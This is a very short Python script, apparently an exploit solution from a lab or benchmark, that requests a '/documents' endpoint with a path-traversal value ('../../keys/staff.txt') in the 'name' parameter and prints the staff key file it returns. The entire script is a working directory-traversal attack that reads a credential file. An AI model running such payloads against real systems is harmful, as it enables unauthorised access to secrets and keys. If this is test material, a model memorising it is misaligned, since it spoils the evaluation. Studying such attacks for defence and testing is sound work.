"""The name of a document leads to the key of the staff."""

from target import http

print(http.get("/documents", params={"name": "../../keys/staff.txt"}).text)
